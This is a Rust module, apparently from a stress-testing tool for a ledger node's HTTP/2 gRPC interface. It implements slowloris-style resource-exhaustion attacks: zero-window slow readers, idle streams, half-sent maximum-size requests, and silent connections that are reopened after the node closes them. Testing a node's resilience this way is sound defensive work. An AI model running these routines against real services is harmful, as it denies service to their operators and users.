//! Attackers that take places and keep them: connections, streams, unfinished requests.

use std::time::Duration;

use prost::Message as _;
use talea_proto::{api, limits::REQUEST_BYTES_MAX};
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;

use crate::attacks::{PAUSE, Target};
use crate::http2;

/// Streams that one connection opens: below what a node permits.
const STREAMS: usize = 100;
/// Held this long, then opened again, so that what the node ended is replaced.
const HELD: Duration = Duration::from_secs(10);
/// Unfinished requests of one connection: all of them fit into its window of 4 MiB.
const BODIES: usize = 16;
/// Of each this much is sent, in frames of at most 16 KiB.
const BODY_FRAMES: usize = 15;

/// Numbers of streams that a client may open.
fn streams(count: usize) -> impl Iterator<Item = u32> {
    (1..).step_by(2).take(count)
}

/// Watches every block with windows of 0: nothing that is sent is ever taken.
pub async fn slow_readers(target: Target) {
    let request = http2::message(&api::WatchBlocksRequest::default().encode_to_vec());
    let headers = http2::call("Ledger/WatchBlocks");
    while target.goes_on() {
        let Ok(mut socket) = http2::connect_taking_nothing(target.address, target.from).await
        else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        for stream in streams(STREAMS) {
            let open = [
                http2::frame(http2::HEADERS, http2::END_HEADERS, stream, &headers),
                http2::frame(http2::DATA, http2::END_STREAM, stream, &request),
            ];
            if socket.write_all(&open.concat()).await.is_err() {
                break;
            }
            target.add(1);
        }
        target.wait(HELD).await;
    }
}

/// Opens streams of submissions and says nothing on them.
pub async fn idle_streams(target: Target) {
    let headers = http2::call("Ledger/SubmitStream");
    while target.goes_on() {
        let Ok(mut socket) = http2::connect(target.address, target.from).await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        for stream in streams(STREAMS) {
            let open = http2::frame(http2::HEADERS, http2::END_HEADERS, stream, &headers);
            if socket.write_all(&open).await.is_err() {
                break;
            }
            target.add(1);
        }
        target.wait(HELD).await;
    }
}

/// Sends nearly all of requests that are as large as they may be.
pub async fn half_sent_bodies(target: Target) {
    let headers = http2::call("Ledger/Submit");
    let length = u32::try_from(REQUEST_BYTES_MAX - 1).unwrap_or(u32::MAX);
    let prefix = [&[0][..], &length.to_be_bytes()].concat();
    let part = vec![7; 16 << 10];
    while target.goes_on() {
        let Ok(mut socket) = http2::connect(target.address, target.from).await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        for stream in streams(BODIES) {
            let mut request = http2::frame(http2::HEADERS, http2::END_HEADERS, stream, &headers);
            request.extend(http2::frame(http2::DATA, 0, stream, &prefix));
            for _ in 0..BODY_FRAMES {
                request.extend(http2::frame(http2::DATA, 0, stream, &part));
            }
            if socket.write_all(&request).await.is_err() {
                break;
            }
            target.add(1);
        }
        target.wait(HELD / 2).await;
    }
}

/// Holds this many connections, silent after their first bytes; what the node closed is opened again.
pub async fn connections(target: Target, count: usize) {
    let mut held: Vec<TcpStream> = Vec::new();
    while target.goes_on() {
        held.retain(is_open);
        while held.len() < count && target.goes_on() {
            match http2::connect(target.address, target.from).await {
                Ok(socket) => {
                    held.push(socket);
                    target.add(1);
                }
                Err(_) => break,
            }
        }
        target.wait(Duration::from_secs(1)).await;
    }
}

/// Takes what the node has said; false once it has said goodbye.
fn is_open(socket: &TcpStream) -> bool {
    let mut said = [0; 512];
    loop {
        match socket.try_read(&mut said) {
            Ok(0) => return false,
            Ok(_) => {}
            Err(error) => return error.kind() == std::io::ErrorKind::WouldBlock,
        }
    }
}
